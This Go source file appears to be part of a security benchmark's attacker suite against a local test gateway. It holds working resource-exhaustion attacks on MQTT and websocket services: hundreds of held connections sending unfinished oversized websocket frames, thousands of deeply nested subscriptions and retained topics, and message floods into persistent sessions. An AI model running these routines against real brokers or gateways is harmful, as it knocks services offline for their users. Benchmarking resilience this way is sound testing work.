package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	paho "github.com/eclipse/paho.mqtt.golang"
	"github.com/gorilla/websocket"

	"watchtower/bench/target"
)

// These attackers know the key: for example a stolen device, or a faulty program.

func client(ctx context.Context, g *target.Gateway, id string, persistent bool) (paho.Client, error) {
	o := paho.NewClientOptions().AddBroker("tcp://" + g.MQTT).SetClientID(id).SetUsername("x").SetPassword(target.SecretKey)
	o.SetCleanSession(!persistent).SetAutoReconnect(false).SetOrderMatters(false)
	o.SetDialer(from(60)).SetDefaultPublishHandler(func(paho.Client, paho.Message) {})
	c := paho.NewClient(o)
	if err := done(c.Connect()); err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { c.Disconnect(0) })
	return c, nil
}

func unfinishedSocketMessages(ctx context.Context, g *target.Gateway) (string, error) {
	id, token, err := g.Register()
	if err != nil {
		return "", err
	}
	url := fmt.Sprintf("ws://%s/channels/join?channels=5&sender=%d", g.HTTP, id)
	dialer := websocket.Dialer{NetDialContext: from(61).DialContext}
	part := strings.Repeat("a", 440_000)
	return hold(ctx, 500,
		func(int) (net.Conn, error) {
			c, resp, err := dialer.DialContext(ctx, url, http.Header{"Authorization": {"Bearer " + token}})
			if err != nil {
				if resp != nil {
					_ = resp.Body.Close()
				}
				return nil, err
			}
			return c.NetConn(), nil
		},
		func(_ int, nc net.Conn) error { // a text frame that is not the last of its message
			head := []byte{0x01, 0xff, 0, 0, 0, 0, 0, 0x06, 0xb6, 0xc0, 0, 0, 0, 0}
			_, err := nc.Write(append(head, part...))
			return err
		})
}

func deepFilters(ctx context.Context, g *target.Gateway) (string, error) {
	c, err := client(ctx, g, "deep-filters", false)
	if err != nil {
		return "", err
	}
	granted := 0
	for i := range 10_000 {
		filter := fmt.Sprintf("f%d/", i) + strings.Repeat("x/", 197) + "x"
		t := c.Subscribe(filter, 0, nil).(*paho.SubscribeToken)
		if err := done(t); err != nil || t.Result()[filter] == 0x80 {
			break // it is refused: the rest would be too
		}
		granted++
	}
	return fmt.Sprintf("%d granted", granted), nil
}

func fullSessions(ctx context.Context, g *target.Gateway) (string, error) {
	const sessions, each = 200, 64
	for i := range sessions {
		c, err := client(ctx, g, fmt.Sprintf("away-%d", i), true)
		if err != nil {
			return "", fmt.Errorf("session %d: %w", i, err)
		}
		if err := done(c.Subscribe(fmt.Sprintf("away/%d", i), 1, nil)); err != nil {
			return "", err
		}
		c.Disconnect(0)
	}
	c, err := client(ctx, g, "away-publisher", false)
	if err != nil {
		return "", err
	}
	payload := make([]byte, 64_000)
	for n := range each {
		for i := range sessions {
			payload[0], payload[1] = byte(i), byte(n)
			if err := done(c.Publish(fmt.Sprintf("away/%d", i), 1, false, payload)); err != nil {
				return "", err
			}
		}
	}
	return fmt.Sprintf("%d messages of 64 kB published", sessions*each), nil
}

func deepRetained(ctx context.Context, g *target.Gateway) (string, error) {
	c, err := client(ctx, g, "deep-retained", false)
	if err != nil {
		return "", err
	}
	var published atomic.Int64
	deadline := time.Now().Add(30 * time.Second)
	for i := 0; i < 100_000 && time.Now().Before(deadline) && ctx.Err() == nil; i++ {
		topic := fmt.Sprintf("r%d/", i) + strings.Repeat("y/", 197) + "y"
		if err := done(c.Publish(topic, 1, true, "x")); err != nil {
			return "", err
		}
		published.Add(1)
	}
	return fmt.Sprintf("%d published", published.Load()), nil
}

// from returns a dialer from the nth attacker's address in this machine's loopback network.
// 127.0.0.1 is the device's address.
func from(n int) *net.Dialer {
	return &net.Dialer{
		LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 66, byte(n%200+1))},
		Timeout:   5 * time.Second,
	}
}
